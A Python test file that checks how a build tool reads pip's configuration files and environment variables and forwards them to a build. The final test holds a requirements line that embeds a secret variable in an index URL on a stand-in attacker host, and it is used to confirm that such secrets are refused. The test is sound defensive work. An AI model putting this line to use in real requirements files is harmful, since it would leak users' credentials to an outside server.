"""pip's settings of this machine are read as pip reads them, and reach a build."""

from __future__ import annotations

import os
import subprocess
import sys

import pytest

from distlaunch.image.pip_secrets import VARIABLES, pip_secrets, variable_refusals

GLOBAL = """\
[global]
index_url = https://pypi.example.com/simple
extra-index-url =
    https://one.example.com/simple
    https://two.example.com/simple
trusted-host: one.example.com
[install]
find-links = https://links.example.com/
[list]
format = columns
"""
NAMED = "[global]\ntrusted-host = two.example.com\nproxy = http://proxy:3128\n"


@pytest.fixture
def settings(monkeypatch, tmp_path):
    """pip's files of a user, and one that a variable names."""
    for name in [name for name in os.environ if name.startswith(("PIP_", "XDG_"))]:
        monkeypatch.delenv(name)
    monkeypatch.setenv("HOME", str(tmp_path))
    monkeypatch.setenv("XDG_CONFIG_DIRS", str(tmp_path / "none"))
    monkeypatch.setenv("PIP_CERT", "")  # of this machine
    monkeypatch.setenv("NETRC", str(tmp_path / "netrc"))
    (tmp_path / ".config/pip").mkdir(parents=True)
    (tmp_path / ".config/pip/pip.conf").write_text(GLOBAL)
    (tmp_path / "named.conf").write_text(NAMED)
    monkeypatch.setenv("PIP_FIND_LINKS", "https://variable.example.com/ /a/folder")
    return tmp_path


def variables():
    lines = pip_secrets([]).get(VARIABLES, "").splitlines()
    return dict(line.split("=", 1) for line in lines)


FILE = {
    "PIP_INDEX_URL": "https://pypi.example.com/simple",
    "PIP_EXTRA_INDEX_URL": "'https://one.example.com/simple https://two.example.com/simple'",
    "PIP_FIND_LINKS": "https://variable.example.com/",
    "PIP_TRUSTED_HOST": "one.example.com",
}


def test_variables_win_and_a_named_file_replaces_the_users(settings, monkeypatch):
    assert variables() == FILE
    monkeypatch.setenv("PIP_CONFIG_FILE", str(settings / "named.conf"))
    assert variables() == {
        "PIP_FIND_LINKS": "https://variable.example.com/",
        "PIP_TRUSTED_HOST": "two.example.com",
        "PIP_PROXY": "http://proxy:3128",
    }


@pytest.mark.slow
@pytest.mark.parametrize("named", ["", "named.conf"])
def test_they_are_those_of_pip(settings, monkeypatch, named):
    if named:
        monkeypatch.setenv("PIP_CONFIG_FILE", str(settings / named))
    command = [sys.executable, "-m", "pip", "config", "list"]
    done = subprocess.run(command, capture_output=True, text=True, check=True, cwd=settings)
    for name in ("index-url", "extra-index-url", "find-links", "trusted-host", "proxy"):
        variable = f"PIP_{name.upper().replace('-', '_')}"
        assert (f".{name}=" in done.stdout) is (variable in variables())
    for value in variables().values():
        assert value.strip("'").split()[0] in done.stdout


def test_a_file_that_pip_cannot_read_is_left_to_pip(settings):
    (settings / ".config/pip/pip.conf").write_text("no section\n")
    assert variables() == {"PIP_FIND_LINKS": "https://variable.example.com/"}


def test_the_null_device_stands_for_no_file(settings, monkeypatch):
    monkeypatch.setenv("PIP_CONFIG_FILE", os.devnull)
    assert variables() == {"PIP_FIND_LINKS": "https://variable.example.com/"}


def test_variables_of_requirements_that_are_not_listed_are_in_no_secret(settings, monkeypatch):
    monkeypatch.setenv("TOKEN", "hunter2")
    line = "--index-url https://u:${TOKEN}@evil.example.com/simple"
    assert "hunter2" not in str(pip_secrets([line]))
    assert [each.where for each in variable_refusals([("a.txt:1", line)])] == ["a.txt:1"]
    monkeypatch.setenv("DISTLAUNCH_BUILD_VARIABLES", "OTHER,TOKEN")
    assert "TOKEN=hunter2\n" in pip_secrets([line])[VARIABLES]
    assert list(variable_refusals([("a.txt:1", line)])) == []
